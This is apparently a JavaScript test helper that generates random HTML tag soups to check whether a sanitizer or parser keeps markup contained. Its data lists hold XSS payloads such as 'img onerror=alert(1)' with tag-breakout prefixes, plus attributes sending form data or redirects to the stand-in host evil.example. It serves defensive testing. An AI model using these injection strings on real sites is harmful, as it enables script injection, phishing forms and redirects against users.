// Random tag soups for the containment check: short runs of the elements
// whose tree-building rules reach beyond a container (blocks that close
// paragraphs, formatting elements that are reconstructed, tables that
// foster-parent, forms, selects, templates, raw text, foreign content and
// the page-level elements), opened with and without their end tags,
// closed out of order, some with attributes that would matter if they
// landed on the page's own elements.

const NAMES = [
  'div', 'p', 'li', 'ul', 'b', 'i', 'a', 'table', 'tr', 'td', 'th', 'tbody', 'caption', 'colgroup', 'col',
  'form', 'input', 'button', 'select', 'option', 'optgroup', 'textarea', 'template', 'style', 'title', 'script',
  'svg', 'math', 'frameset', 'base', 'meta', 'html', 'body', 'head',
];
// Rarer ones, one pick in three: the other rules of the tree builder
// (headings, definition lists, markers, ruby, <nobr>, table sections,
// the other raw-text elements, void and obsolete elements, custom ones).
const MORE_NAMES = [
  'h1', 'h2', 'dl', 'dd', 'dt', 'ol', 'span', 'em', 'font', 'nobr', 'object', 'marquee', 'applet', 'thead',
  'tfoot', 'ruby', 'rb', 'rt', 'rp', 'rtc', 'pre', 'listing', 'xmp', 'iframe', 'noembed', 'noframes', 'hr', 'br',
  'img', 'image', 'frame', 'keygen', 'x-widget', 'dialog', 'details', 'summary', 'address', 'center', 'fieldset',
  'legend', 'label', 'nav', 'dir', 'menu', 'embed', 'param', 'area', 'wbr', 'plaintext', 'noscript',
];
// Their text is not markup to the tokenizer, so a soup puts markup in it:
// harmless there, live wherever the tree builder does not switch to raw text.
const RAW_TEXT = new Set(['textarea', 'style', 'title', 'script', 'xmp', 'iframe', 'noembed', 'noframes', 'noscript',
  'plaintext']);
const RAW_CONTENTS = [
  '<img src=x onerror=alert(1)>', '</div><img src=x onerror=alert(1)>', '<input><img src=x onerror=alert(1)>',
  '</template><img src=x onerror=alert(1)>', 'x',
];
const ATTRIBUTES = [
  'class="x"', 'id="rest"', 'href="https://evil.example/"', 'href="/x"', 'action="https://evil.example/collect"',
  'name="pw"', 'type="hidden"', 'type="password"', 'value="v"', 'title="t"', 'onclick="alert(1)"', 'src=x',
  'form="f"', 'target=_top', 'encoding="text/html"', 'http-equiv="refresh" content="0;url=https://evil.example/"',
];
const TEXTS = ['x', 'text ', ' ', '\n', '&amp;', 'Great post!'];

function startTag({ random, pick }, name) {
  let tag = '<' + (random() < 0.15 ? name.toUpperCase() : name);
  if (random() < 0.35) {
    const count = 1 + Math.floor(random() * 2);
    for (let i = 0; i < count; i++) tag += ' ' + pick(ATTRIBUTES);
  }
  return tag + (random() < 0.08 ? '/>' : '>');
}

// A soup of 1 to 12 pieces (one in five up to 30): start tags (raw-text ones with their text and,
// more often than not, their end tag), end tags of open elements in any
// order, end tags of elements never opened, and text; one soup in four
// closes what it left open.
export function tagSoup(rng) {
  const { random, pick } = rng;
  const open = [];
  let soup = '';
  const length = 1 + Math.floor(random() * (random() < 0.2 ? 30 : 12));
  for (let i = 0; i < length; i++) {
    const r = random();
    if (r < 0.5) {
      const name = random() < 1 / 3 ? pick(MORE_NAMES) : pick(NAMES);
      soup += startTag(rng, name);
      if (!RAW_TEXT.has(name)) {
        open.push(name);
      } else {
        soup += pick(RAW_CONTENTS);
        if (random() < 0.6) soup += `</${name}>`;
      }
    } else if (r < 0.75 && open.length > 0) {
      const at = Math.floor(random() * open.length);
      soup += `</${open[at]}>`;
      open.splice(at, 1);
    } else if (r < 0.85) {
      soup += `</${random() < 1 / 3 ? pick(MORE_NAMES) : pick(NAMES)}>`;
    } else {
      soup += pick(TEXTS);
    }
  }
  if (random() < 0.25) soup += open.reverse().map((name) => `</${name}>`).join('');
  return soup;
}
